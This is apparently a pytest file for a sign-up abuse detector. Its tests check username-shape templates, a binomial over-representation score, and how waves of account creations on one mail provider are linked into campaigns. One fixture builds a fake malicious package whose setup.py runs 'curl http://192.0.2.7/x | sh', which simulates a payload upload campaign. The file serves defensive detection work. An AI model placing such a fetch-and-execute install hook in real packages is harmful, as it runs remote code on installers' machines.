"""Traits a wave shares inside one mail provider's sign-ups (issue 16), table-driven:
the sign-up client and username template keys, the over-representation test that lets
them link, and the slow wave's later sign-ups joining its campaign."""

from __future__ import annotations

import itertools
import random
from typing import Any

import pytest

from detector.stream import StreamScorer
from detector.stream.cohorts import binomial_surprise
from detector.stream.events import format_ts, parse_ts
from detector.stream.templates import coarse_shape

START = parse_ts("2025-03-03T09:00:00Z")
HOUR = 3600.0
DAY = 86400.0
_ids = itertools.count()
_FIRST = ("anna", "boris", "chen", "dana", "emil", "farah", "gustav", "hana", "ivan", "jun",
          "kemal", "lea", "marta", "nils", "olga", "pavel", "quinn", "rosa", "sven", "tara")
_LAST = ("smith", "ivanova", "okafor", "larsen", "moreau", "tanaka", "silva", "novak")
_BROWSERS = tuple(f"Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
                  for v in range(110, 140))


@pytest.mark.parametrize(("text", "expected"), [
    ("john.smith42", "a . a 92"),
    ("evangeline.okafor17", "a . a 92"),  # the names' lengths do not matter
    ("johnsmith4242", "a 94"),  # the digit count does
    ("John_Smith", "A a _ A a"),
    ("xk3qpz", "a 91 a"),
])
def test_coarse_shape(text: str, expected: str) -> None:
    assert coarse_shape(text) == expected


@pytest.mark.parametrize(("n", "trials", "share", "low", "high"), [
    (12, 13, 0.2, 7.0, 9.0),  # nearly every arrival carries a trait a fifth usually do
    (3, 13, 0.2, 0.0, 1.0),  # a crowd bringing the usual mix
    (13, 13, 1.0, 0.0, 0.0),  # the trait is all the domain ever sees (no information)
    (2, 13, 0.2, 0.0, 0.0),  # at most what the share expects
    (5, 5, 0.0, float("inf"), float("inf")),  # never seen there before
])
def test_binomial_surprise(n: int, trials: int, share: float, low: float, high: float
                           ) -> None:
    assert low <= binomial_surprise(n, trials, share) <= high


def _signup(scorer: StreamScorer, at: float, user: str, domain: str,
            ua: str | None) -> dict[str, Any]:
    account: dict[str, Any] = {"username": user, "email": f"{user}@{domain}"}
    if ua is not None:
        account["user_agent"] = ua
    event = {"id": f"w{next(_ids)}", "ts": format_ts(at), "type": "account.created",
             "account": account}
    return scorer.process(event, now=at)[0]


def _history(scorer: StreamScorer, rng: random.Random, no_ua_share: float) -> None:
    """Four days (the baselines' warm-up and more) of ordinary sign-ups on outlook.com
    (24 a day) and gmail.com, a share of them without a user agent."""
    for i in range(4 * 24):
        at = START - 4 * DAY + i * HOUR
        for j in range(2):
            user = f"{rng.choice(_FIRST)}{rng.choice(['', '-', '_x'])}{i}q{j}"
            ua = None if rng.random() < no_ua_share else rng.choice(_BROWSERS)
            domain = "outlook.com" if j == 0 or i % 2 else "gmail.com"
            _signup(scorer, at + j * 600, user, domain, ua)


@pytest.mark.parametrize(("wave_ua", "names", "history_no_ua", "linked"), [
    # a script's sign-ups: no user agent (a fifth of the domain's usually lack one), one
    # username template
    ("none", "template", 0.2, True),
    # one client build for every sign-up, people's names
    ("one", "diverse", 0.2, True),
    # a benign crowd on the provider: its usual mix of browsers and names
    ("mixed", "diverse", 0.2, False),
    # a registry that never passes a user agent: the client is the domain itself, and the
    # provider's burst alone must not link ...
    ("none", "diverse", 1.0, False),
    # ... but one username template inside it does
    ("none", "template", 1.0, True),
])
def test_a_provider_burst_links_only_through_a_shared_trait(
        wave_ua: str, names: str, history_no_ua: float, linked: bool) -> None:
    rng = random.Random(5)
    scorer = StreamScorer()
    _history(scorer, rng, history_no_ua)
    outs = []
    for i in range(40):
        if names == "template":
            user = f"{rng.choice(_FIRST)}.{rng.choice(_LAST)}{rng.randint(1000, 9999)}"
        else:
            user = f"{rng.choice(_FIRST)}{rng.choice(['', '-', '_x'])}{i}q{i % 3}"
        ua = {"none": None, "one": _BROWSERS[3], "mixed": rng.choice(_BROWSERS)}[wave_ua]
        if wave_ua == "mixed" and rng.random() < history_no_ua:
            ua = None
        outs.append(_signup(scorer, START + i * 240, user, "outlook.com", ua))
    labelled = [o for o in outs if o["campaign"] is not None]
    if linked:
        assert len(labelled) >= 25
        assert any("sign-ups on outlook.com" in r for o in labelled for r in o["reasons"])
        # caught early: within the first 20 sign-ups (~80 minutes)
        assert any(o["decision"] != "allow" for o in outs[:20])
    else:
        assert not labelled
        assert all(o["decision"] == "allow" for o in outs)


@pytest.mark.parametrize(("members", "joins"), [
    (3, True),  # three accounts of the campaign shared the sign-up template this week
    (2, False),  # fewer than signup_tail_members
])
def test_a_slow_wave_s_later_sign_up_joins_its_campaign(members: int, joins: bool) -> None:
    """Accounts linked into a campaign by their projects (one payload) shared a sign-up
    template (domain, no client, username template); a later sign-up sharing it joins."""
    scorer = StreamScorer()
    rng = random.Random(9)
    _history(scorer, rng, 0.2)
    payload = {"setup.py": "import os\nos.system('curl http://192.0.2.7/x | sh')\n" * 3}
    wave = []
    for i in range(members):
        user = f"{_FIRST[i]}{_LAST[i]}{10 + i}"
        _signup(scorer, START + i * 8 * HOUR, user, "gmx.de", None)
        wave.append(user)
    # The campaign: six accounts (these and others) uploading one payload within hours.
    others = [f"{name}helper{i}" for i, name in enumerate(_FIRST[10:16])]
    at = START + 2 * DAY
    for i, user in enumerate(wave + others[: 6 - members + 2]):
        event = {"id": f"w{next(_ids)}", "ts": format_ts(at + i * 600),
                 "type": "project.created", "account": {"username": user},
                 "project": {"name": f"tphelper{i}", "version": "1.0", "files": payload}}
        scorer.process(event, now=at + i * 600)
    assert all(scorer.accounts[u].campaign is not None for u in wave)
    later = _signup(scorer, at + DAY, "ninalarsen77", "gmx.de", None)
    assert (later["campaign"] is not None) is joins
    assert (later["decision"] != "allow") is joins
    # another template, or a client, on the same domain does not join
    assert _signup(scorer, at + DAY + 60, "nina.larsen", "gmx.de", None)["campaign"] is None
    assert _signup(scorer, at + DAY + 120, "olgasilva55", "gmx.de",
                   _BROWSERS[0])["campaign"] is None


def _crowd(scorer: StreamScorer, rng: random.Random, at: float, domain: str, size: int,
           tag: str) -> list[dict[str, Any]]:
    """``size`` sign-ups on ``domain`` in two hours, people's names and many browsers."""
    return [_signup(scorer, at + i * 7200 / size,
                    f"{rng.choice(_FIRST)}{rng.choice(['', '-', '_x'])}{tag}{i}",
                    domain, rng.choice(_BROWSERS)) for i in range(size)]


@pytest.mark.parametrize(("first_wave", "linked"), [
    # the domain's history is a wave's first burst: its second burst is the wave again
    (True, True),
])
def test_a_key_that_held_a_wave_links_when_it_bursts_again(first_wave: bool,
                                                           linked: bool) -> None:
    """A small provider's domain seen only in a wave's first burst: that burst made its
    history common (above broad_key_per_day). Its second burst within link_half_life_days
    is the wave returning."""
    rng = random.Random(3)
    scorer = StreamScorer()
    _history(scorer, rng, 0.2)
    if first_wave:
        first = _crowd(scorer, rng, START, "list.ru", 60, "a")
        assert sum(o["campaign"] is not None for o in first) >= 40
    at = START + 3 * HOUR
    while at < START + 6 * DAY:
        domain = "list.ru" if not first_wave and int(at // HOUR) % 4 else "gmail.com"
        _signup(scorer, at, f"{rng.choice(_FIRST)}q{int(at)}", domain, rng.choice(_BROWSERS))
        at += HOUR
    second = _crowd(scorer, rng, START + 6 * DAY, "list.ru", 60, "b")
    joined = sum(o["campaign"] is not None for o in second)
    assert (joined >= 40) is linked
    assert (joined == 0) is not linked
